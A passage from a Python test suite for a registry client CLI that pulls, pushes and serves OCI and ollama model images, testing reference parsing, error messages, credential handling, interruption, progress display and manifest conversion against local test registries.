        ("[::1]:5000/a/b", "[::1]:5000", "a/b", "latest", None, "https"),
        ("docker.io/ubuntu:22.04", "docker.io", "library/ubuntu", "22.04", None, "https"),
        ("index.docker.io/org/app", "index.docker.io", "org/app", "latest", None, "https"),
    ],
)
def test_reference_parse(
    text: str, registry: str, repository: str, tag: str | None, digest: str | None, scheme: str
) -> None:
    ref = Reference.parse(text)
    assert (ref.registry, ref.repository, ref.tag, ref.digest, ref.scheme) == (
        registry,
        repository,
        tag,
        digest,
        scheme,
    )
    assert ref.manifest_ref == (digest or tag)
    assert Reference.parse(f"{scheme}://{ref}") == ref
    api = "registry-1.docker.io" if registry.endswith("docker.io") else registry
    assert ref.base_url == f"{scheme}://{api}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Upper/case",
        "a//b",
        "name:",
        "name@",
        "name@sha256:123",
        "a/b:t/x",
        "http://host:1",
        "host:99999/a/b",
        "host:0/a/b",
        "host:\u0665\u0660/a/b",
    ],
)
def test_bad_references_are_usage_errors(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(ValueError):  # noqa: PT011 - the message varies with the mistake
        Reference.parse(text)
    with pytest.raises(SystemExit) as caught:
        main(["pull", text, "dir"])
    assert caught.value.code == 2
    err = capsys.readouterr().err
    assert "bad reference" in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["demo", "--url", "http://127.0.0.1:notaport"], "'127.0.0.1:notaport' is not a registry"),
        (["demo", "--url", "http://127.0.0.1:70000"], "'127.0.0.1:70000' is not a registry"),
        (
            ["pull", "--concurrency", "\u00b2", "a/b", "d"],
            "expected a whole number >= 1, got '\u00b2'",
        ),
        (["serve", "--port", "\u0665"], "expected a port number (0-65535), got '\u0665'"),
    ],
)
def test_bad_option_values_are_usage_errors(
    argv: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        main(argv)
    assert caught.value.code == 2
    assert message in capsys.readouterr().err


@pytest.mark.parametrize(
    "raised",
    [
        BaseExceptionGroup("tasks ending", [KeyboardInterrupt(), ValueError("x")]),
        trio.TrioInternalError("internal error in Trio"),
    ],
)
def test_a_second_ctrl_c_while_tasks_end_exits_quietly(
    raised: BaseException, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def run(*args: object) -> int:
        if isinstance(raised, trio.TrioInternalError):
            raise raised from KeyboardInterrupt()  # as when the signal reaches trio's own code
        raise raised

    monkeypatch.setattr(trio, "run", run)
    assert main(["serve", "--port", "0"]) == 130
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize(
    ("argv", "record"),
    [
        (["pull", "Bad", "dir", "--json"], {"command": "pull", "error": "bad reference 'Bad': "}),
        (["--json"], {"command": None, "error": "the following arguments are required: COMMAND"}),
    ],
)
def test_usage_errors_with_json_are_a_json_line_too(
    argv: list[str], record: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        main(argv)
    assert caught.value.code == 2
    out, err = capsys.readouterr()
    printed = json.loads(out)
    assert printed["error"].startswith(record.pop("error"))
    assert printed == {**printed, "ok": False, **record}
    assert f"error: {printed['error']}" in err


@pytest.mark.parametrize("command", ["pull", "push", "serve", "demo"])
def test_every_command_has_help_with_an_example(
    command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        main([command, "--help"])
    assert caught.value.code == 0
    help_text = capsys.readouterr().out
    assert "example" in help_text
    assert "trio-blobs " + command in help_text.split("example")[1]


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["--version"])
    assert caught.value.code == 0
    assert capsys.readouterr().out == f"trio-blobs {importlib.metadata.version('trio_blobs')}\n"


# -- failures ------------------------------------------------------------------------------------


async def test_a_missing_tag_is_explained(served: Served, tmp_path: Path) -> None:
    store(served.registry, make_image(10), "library/model", "v1")
    done = await cli("pull", f"http://{served.host}/library/model:v9", tmp_path, "--json")
    assert done.returncode == 1
    assert done.stderr.splitlines() == [
        f"trio-blobs: could not pull {served.host}/library/model:v9",
        "  manifest request failed with 404 Not Found: MANIFEST_UNKNOWN: "
        "manifest unknown to registry",
        f"  url: {served.url}/v2/library/model/manifests/v9",
        "  The repository has no manifest with that tag or digest.",
        "  Try: check the tag (tags are case-sensitive) or the digest.",
    ]
    assert done.summary == {
        "command": "pull",
        "ok": False,
        "error": "manifest request failed with 404 Not Found: MANIFEST_UNKNOWN: "
        "manifest unknown to registry",
        "url": f"{served.url}/v2/library/model/manifests/v9",
        "status": 404,
        "code": "MANIFEST_UNKNOWN",
    }
    assert not tmp_path.joinpath("manifests").exists()
    by_digest = await cli("pull", f"{served.url}/library/model@{DIGEST}", tmp_path, "--json")
    assert by_digest.summary["digest"] == DIGEST


async def test_credentials_from_stdin_and_the_environment(tmp_path: Path) -> None:
    registry = Registry(token="registry-token")
    store(registry, make_image(10), "private/model", "v1")
    async with registry.serving() as url:
        ref = f"{url}/private/model:v1"
        done = await cli(
            "pull",
            ref,
            tmp_path / "a",
            "--username",
            "alice",
            "--password-stdin",
            stdin=b"alice-secret\n",
        )
        assert done.returncode == 0, done.stderr
        by_env = await cli(
            "pull",
            ref,
            tmp_path / "b",
            env={"TRIO_BLOBS_USERNAME": "bob", "TRIO_BLOBS_PASSWORD": "bob-secret"},
        )
        assert by_env.returncode == 0, by_env.stderr
    token_requests = [r for r in registry.requests if r.url.startswith(f"{url}/token")]
    assert [r.headers["authorization"] for r in token_requests] == [
        "Basic YWxpY2U6YWxpY2Utc2VjcmV0",  # alice:alice-secret
        "Basic Ym9iOmJvYi1zZWNyZXQ=",  # bob:bob-secret
    ]


def test_an_empty_password_on_stdin_is_a_usage_error(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n"))
    with pytest.raises(SystemExit) as caught:
        main(["pull", "model", "dir", "--username", "alice", "--password-stdin"])
    assert caught.value.code == 2
    assert "error: the password read from stdin is empty" in capsys.readouterr().err


async def test_a_pull_says_it_waits_for_a_slow_registry_and_gives_up_after_a_few_stalls(
    served: Served, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    image = make_image(10)
    store(served.registry, image, "org/app", "v1")
    ref = Reference.parse(f"{served.url}/org/app:v1")
    monkeypatch.setattr(_cli, "WAIT_NOTICE", 0.2)
    monkeypatch.setattr(
        _cli, "fetch_manifest", functools.partial(fetch_manifest, stall_timeout=0.5)
    )
    async with TransferClient(max_idle_connections=4) as client:
        remote = _cli._Remote(client, RegistryAuth(ref.base_url, None, None), None, "off")

        served.registry.add_fault(Fault(path="/manifests/", delay=0.4))
        manifest = await _cli._fetch_manifest(remote, ref, None)
        assert manifest.digest == image.digest
        notice = f"trio-blobs: warning: no answer from {ref.registry} after 0 s; still trying"
        assert notice in capsys.readouterr().err

        served.registry.add_fault(Fault(path="/manifests/", delay=60, times=None))
        with pytest.raises(RetriesExhaustedError) as caught:
            await _cli._fetch_manifest(remote, ref, None)
        assert caught.value.attempts == _cli.MANIFEST_STALLS


async def test_a_push_says_it_waits_for_a_registry_that_has_not_answered(
    served: Served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, layout = await pulled_oci(served, tmp_path)
    monkeypatch.setattr(_cli, "WAIT_NOTICE", 0.2)
    notice = f"no answer from {served.host} after 0 s; still trying (Ctrl-C stops)"
    warnings: list[str] = []
    monkeypatch.setattr(_cli, "_warn", warnings.append)
    served.registry.add_fault(Fault(method=None, delay=0.4))  # the first answer comes late
    await push_in_process(served, layout, "copies/first")
    assert warnings == [notice]
    warnings.clear()
    served.registry.add_fault(Fault(method="PUT", delay=0.4, times=None))  # answering, slowly
    await push_in_process(served, layout, "copies/second")
    assert warnings == []


async def test_wrong_credentials_are_explained_without_a_traceback(tmp_path: Path) -> None:
    registry = Registry(token="registry-token")
    store(registry, make_image(10), "private/model", "v1")
    registry.add_fault(Fault(path="/token", status=401, times=None))  # the password is wrong
    async with registry.serving() as url:
        args = ("pull", f"{url}/private/model:v1", tmp_path, "--username", "alice")
        done = await cli(*args, "--password-stdin", stdin=b"wrong")
        verbose = await cli(*args, "--password-stdin", "-v", stdin=b"wrong")
    assert done.returncode == verbose.returncode == 1
    assert "the token service refused the request (401)" in done.stderr
    assert "refused the ones given" in done.stderr
    assert "Try: pass --username with --password-stdin" in done.stderr
    assert "Traceback" not in done.stderr
    assert "Traceback" in verbose.stderr


async def test_an_unreachable_registry_is_explained(tmp_path: Path) -> None:
    done = await cli("pull", "http://127.0.0.1:9/library/model", tmp_path)
    assert done.returncode == 1
    assert "ConnectError" in done.stderr
    assert "--insecure" in done.stderr
    assert "Traceback" not in done.stderr


async def test_https_to_a_plain_http_registry_is_explained(served: Served, tmp_path: Path) -> None:
    done = await cli("pull", f"https://{served.host}/library/model", tmp_path)
    assert done.returncode == 1
    assert "The TLS handshake with the registry failed" in done.stderr
    assert (
        "Try: is this a plain-HTTP registry? Use an http:// reference or --insecure." in done.stderr
    )


async def test_the_demo_on_https_to_a_plain_http_registry_is_told_of_its_own_option(
    served: Served,
) -> None:
    done = await cli("demo", "--url", f"https://{served.host}", "--size", "2MB")
    assert done.returncode == 1
    assert "Try: is this a plain-HTTP registry? Use an http:// --url." in done.stderr


@pytest.mark.parametrize("layout", ["ollama", "oci"])
async def test_ctrl_c_stops_within_a_second_leaving_nothing_half_written(
    served: Served, tmp_path: Path, layout: str
) -> None:
    image = make_image(10, 20, 4_000_000, 4_000_000)
    store(served.registry, image, "library/model", "v1")
    big = [b.digest for b in image.blobs if b.size > 1000]
    for digest in big:
        served.registry.add_fault(Fault(digest=digest, stall_after=100_000, times=None))
    stderr = (tmp_path / "stderr").open("wb")
    dest = tmp_path / "dest"
    process = await trio.lowlevel.open_process(
        [*CLI, "pull", f"http://{served.host}/library/model:v1", str(dest), "--layout", layout],
        stdout=subprocess.DEVNULL,
        stderr=stderr,
    )
    for _ in range(500):  # until both big blobs are stalled
        if len({d for d in big for url in blob_gets(served.registry) if d in url}) == 2:
            break
        await trio.sleep(0.02)
    await trio.sleep(0.3)  # the small ones are done
    process.send_signal(signal.SIGINT)
    start = trio.current_time()
    with trio.fail_after(5):
        await process.wait()
    assert trio.current_time() - start < 1.5
    stderr.close()
    assert process.returncode == 130, (tmp_path / "stderr").read_text()
    assert "interrupted" in (tmp_path / "stderr").read_text()
    blob_files = {name: p for p in dest.rglob("*") if p.is_file() for name in [p.name]}
    assert set(blob_files) <= {
        (b.file_name if layout == "ollama" else b.digest.partition(":")[2])
        for b in image.blobs
        if b.digest not in big
    }
    assert not [name for name in files(dest) if "manifests" in name or "index.json" in name]


# -- output --------------------------------------------------------------------------------------


async def test_progress_lines_and_quiet(served: Served, tmp_path: Path) -> None:
    image = make_image(2_000_000)
    store(served.registry, image, "library/slow", "v1")
    layer = image.blobs[1].digest
    served.registry.add_fault(Fault(digest=layer, trickle=700_000))  # about 3 s
    ref = f"http://{served.host}/library/slow:v1"
    plain = await cli("pull", ref, tmp_path / "plain")
    assert plain.returncode == 0, plain.stderr
    assert plain.stderr.startswith("pull: ")
    assert "of 2.0 MB" in plain.stderr
    assert "1/2 blobs" in plain.stderr  # the config is in, the layer trickles
    assert f"largest in flight: {layer[:19]}" in plain.stderr
    assert "pulled" in plain.stdout

    quiet = await cli("pull", ref, tmp_path / "quiet", "-q")
    assert quiet.returncode == 0
    assert quiet.stdout == quiet.stderr == ""


async def test_a_rich_bar_on_a_terminal(served: Served, tmp_path: Path) -> None:
    store(served.registry, make_image(1_000_000), "library/model", "v1")
    done = await cli(
        "pull", f"http://{served.host}/library/model:v1", tmp_path, env={"TTY_COMPATIBLE": "1"}
    )
    assert done.returncode == 0, done.stderr
    assert "\x1b[" in done.stderr  # drawn with terminal control sequences
    assert "2/2 blobs" in done.stderr


def test_the_rich_bar_is_current_but_its_rows_change_once_per_interval(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from rich.progress import Progress

    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    clock = [1000.0]
    monkeypatch.setattr(_cli, "time", SimpleNamespace(monotonic=lambda: clock[0]))
    draws = []
    draw = Progress.refresh
    monkeypatch.setattr(Progress, "refresh", lambda self: draws.append(draw(self)))
    small = [Blob(compute_digest(b"%d" % i), 1000) for i in range(64)]
    big = Blob(compute_digest(b"big"), 5000)

    progress = _cli._Progress("pull", total=69_000, blobs=65, style="rich")
    assert progress._bar is not None
    bar, rows = (
        progress._bar.tasks[0],
        lambda: [t.description.strip() for t in progress._bar.tasks[1:]],
    )
    with progress:
        for blob in small:
            progress.blob(blob, 1)
        clock[0] += 1.5  # all in flight for over a second, all of one size
        drawn = len(draws)
        for i, blob in enumerate(small):  # finishing at one instant, each shown in turn before
            progress.blob(blob, blob.size)
            progress((i + 1) * 1000, 69_000)
            assert (bar.completed, bar.fields["blobs"]) == ((i + 1) * 1000, f"{i + 1}/65 blobs")
        assert len(draws) - drawn <= _cli.LARGEST_SHOWN  # rows given by one choice, not per blob
        assert rows() == []  # the rows of finished blobs go at once

        progress.blob(big, 10)  # the largest, but in flight for less than a second
        clock[0] += 0.5
        progress.blob(big, 20)
        assert rows() == []
        clock[0] += 0.6
        progress.blob(big, 30)
        assert rows() == [big.digest[:19]]
        assert progress._bar.tasks[1].completed == 30
        progress.blob(big, big.size)
        progress(69_000, 69_000)
        assert rows() == []
    assert (bar.completed, bar.fields["blobs"]) == (69_000, "65/65 blobs")
    assert "65/65 blobs" in capsys.readouterr().err


# -- serve and demo ------------------------------------------------------------------------------


@pytest.fixture
async def child_processes() -> AsyncIterator[list[trio.Process]]:
    processes: list[trio.Process] = []
    yield processes
    for process in processes:
        process.kill()
        await process.wait()
        for stream in (process.stdout, process.stderr):
            assert stream is not None
            await stream.aclose()


async def serve(storage: Path, processes: list[trio.Process]) -> tuple[trio.Process, str]:
    process = await trio.lowlevel.open_process(
        [*CLI, "serve", "--port", "0", "--storage", str(storage), "--json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    processes.append(process)
    assert process.stdout is not None
    line = b""
    with trio.fail_after(10):
        while not line.endswith(b"\n"):
            line += await process.stdout.receive_some()
    record = json.loads(line)
    assert (record["command"], record["ok"]) == ("serve", True)
    return process, record["url"]


async def test_serve_keeps_its_content_in_storage(
    tmp_path: Path, child_processes: list[trio.Process]
) -> None:
    image = make_image(100, 200_000)
    storage = tmp_path / "storage"
    process, url = await serve(storage, child_processes)
    host = url.removeprefix("http://")
    pull = await cli("pull", f"http://{host}/library/none", tmp_path / "none")
    assert "MANIFEST_UNKNOWN" in pull.stderr
    src = tmp_path / "src"
    src.mkdir()
    for blob, data in zip(image.blobs, image.contents, strict=True):
        (src / blob.file_name).write_bytes(data)
    await upload(
        image.blobs,
        base_url=url,
        repository="kept/model",
        src_dir=src,
        manifest=image.manifest,
        manifest_ref="v1",
    )
    process.send_signal(signal.SIGTERM)
    with trio.fail_after(5):
        await process.wait()
    assert process.returncode == 0  # the normal end of serve
    assert process.stderr is not None
    assert await process.stderr.receive_some() == b""  # not "interrupted"

    _, url = await serve(storage, child_processes)
    dest = tmp_path / "dest"
    done = await cli("pull", f"{url}/kept/model:v1", dest, "--layout", "oci")
    assert done.returncode == 0, done.stderr
    assert_pulled(dest, "oci", image, "v1")


async def test_serve_checks_its_storage_before_it_listens(tmp_path: Path) -> None:
    storage = tmp_path / "file"
    storage.write_text("not a directory")
    with trio.fail_after(10):
        done = await cli("serve", "--port", "0", "--storage", storage, "--json")
    assert done.returncode == 1
    assert f"cannot keep the registry's content in {storage}" in done.stderr
    assert done.stdout.count("\n") == 1
    assert done.summary["ok"] is False


async def test_serve_keeps_out_of_an_image_store(served: Served, tmp_path: Path) -> None:
    store(served.registry, make_image(3), "library/model", "v1")
    models = tmp_path / "models"
    assert (await cli("pull", f"{served.url}/library/model:v1", models)).returncode == 0
    before = sorted(path.relative_to(models) for path in models.rglob("*"))
    with trio.fail_after(10):
        done = await cli("serve", "--port", "0", "--storage", models)
    assert done.returncode == 1
    assert f"{models} holds an ollama image store" in done.stderr
    assert sorted(path.relative_to(models) for path in models.rglob("*")) == before


async def test_demo_with_an_embedded_registry() -> None:
    done = await cli("demo", "--size", "3MB", "--json")
    assert done.returncode == 0, done.stderr
    summary = done.summary
    assert summary["verified"] is True
    blobs = summary["blobs"]
    assert isinstance(blobs, int)
    assert 250 < blobs < 400
    push, pull = summary["push"], summary["pull"]
    assert isinstance(push, dict)
    assert isinstance(pull, dict)
    assert push["transferred"] == pull["transferred"] == blobs
    assert pull["requests"] == blobs + 1  # one per blob, and the manifest


async def test_demo_tensors_are_made_a_piece_at_a_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However big a tensor (a 20 GB model's embeddings pass randbytes' 256 MiB limit), it is
    made and written in pieces, and stored under its digest."""
    asked: list[int] = []
    randbytes = random.Random.randbytes
    monkeypatch.setattr(_cli, "DEMO_PIECE", 4096)
    monkeypatch.setattr(
        random.Random, "randbytes", lambda rng, n: asked.append(n) or randbytes(rng, n)
    )
    layout = _cli._OllamaLayout(tmp_path)
    manifest = await _cli._generate_model(layout, 3 * 10**6)
    assert max(asked) == 4096
    assert await _cli._verify(layout, manifest) == ["the stored manifest is not the one pushed"]
    assert not [p for p in (tmp_path / "blobs").iterdir() if p.name.startswith(".")]


async def test_demo_against_a_given_registry(served: Served) -> None:
    done = await cli("demo", "--size", "1MB", "--url", served.url)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[2] == f"demo against {served.url}"
    assert lines[-3].startswith("  push ")
    assert lines[-2].startswith("  pull ")
    assert "requests per blob" in lines[-2]
    assert lines[-1] == "  verified: every blob's digest and the manifest match"
    assert len(served.registry.manifests["trio-blobs/demo"]) == 2  # by tag and by digest


# -- the distribution registry and skopeo --------------------------------------------------------


async def test_skopeo_reads_an_oci_layout_pulled_from_the_distribution_registry(
    plain_registry: RealRegistry, skopeo: str, tmp_path: Path
) -> None:
    image = make_image(10, 1_000_000, docker=True)
    src = tmp_path / "src"
    src.mkdir()
    for blob, data in zip(image.blobs, image.contents, strict=True):
        (src / blob.file_name).write_bytes(data)
    await upload(
        image.blobs,
        base_url=plain_registry.url,
        repository="library/model",
        src_dir=src,
        manifest=image.manifest,
        manifest_ref="v1",
    )
    layout = tmp_path / "layout"
    ref = f"http://{plain_registry.host}/library/model:v1"
    done = await cli("pull", ref, layout, "--layout", "oci")
    assert done.returncode == 0, done.stderr
    # The layout holds the manifest with OCI media types, which is what other tools read.
    converted = Manifest.parse(image.manifest).as_oci()
    assert_pulled(layout, "oci", Image(image.contents, converted.data), "v1")
    out = tmp_path / "skopeo-dir"
    copied = await trio.run_process(
        [skopeo, "copy", "--insecure-policy", f"oci:{layout}:v1", f"dir:{out}"],
        check=False,
        capture_stdout=True,
        capture_stderr=True,
    )
    assert copied.returncode == 0, copied.stderr.decode()
    assert (out / "manifest.json").read_bytes() == converted.data
    for blob, data in zip(image.blobs, image.contents, strict=True):
        assert (out / blob.digest.partition(":")[2]).read_bytes() == data

    pushed = await cli("push", layout, f"http://{plain_registry.host}/copies/model:v2")
    assert pushed.returncode == 0, pushed.stderr
    again = await cli("pull", f"http://{plain_registry.host}/copies/model:v2", tmp_path / "again")
    assert again.returncode == 0, again.stderr
    assert_pulled(
        tmp_path / "again",
        "ollama",
        Image(image.contents, converted.data),
        f"{plain_registry.host}/copies/model/v2",
    )


def test_docker_manifests_convert_to_oci() -> None:
    image = make_image(10, docker=True)
    document = json.loads(image.manifest)
    document["layers"].append(
        {"mediaType": "application/vnd.ollama.image.model"} | {"digest": DIGEST, "size": 3}
    )
    docker = Manifest.parse(json.dumps(document).encode())
    oci = docker.as_oci()
    assert (docker.media_type, oci.media_type) == (DOCKER_MANIFEST, OCI_MANIFEST)
    assert oci.blobs == docker.blobs
    converted = json.loads(oci.data)
    assert oci.data == json.dumps(converted, separators=(",", ":")).encode()
    assert converted["mediaType"] == OCI_MANIFEST
    assert converted["config"]["mediaType"] == "application/vnd.oci.image.config.v1+json"
    assert [layer["mediaType"] for layer in converted["layers"]] == [
        "application/vnd.oci.image.layer.v1.tar+gzip",
        "application/vnd.ollama.image.model",  # no OCI equivalent: kept
    ]
    assert oci.as_oci() is oci
